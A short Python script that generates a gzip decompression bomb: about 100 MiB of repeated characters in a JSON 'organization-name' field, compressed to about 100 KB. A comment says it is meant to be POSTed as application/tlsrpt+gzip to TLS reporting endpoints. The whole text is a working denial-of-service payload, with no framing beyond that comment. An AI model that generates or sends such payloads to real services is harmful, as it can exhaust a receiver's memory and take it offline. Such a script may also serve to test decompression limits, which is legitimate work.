# a gzip bomb POSTed as application/tlsrpt+gzip
import gzip, io, sys
# {"organization-name":"aaaa... 100 MiB ...aaa"} compressed: about 100 KB
z = io.BytesIO()
with gzip.GzipFile(fileobj=z, mode="wb", compresslevel=9, mtime=0) as g:
    g.write(b'{"organization-name":"')
    for _ in range(100):
        g.write(b"a" * (1 << 20))
    g.write(b'"}')
sys.stdout.buffer.write(z.getvalue())
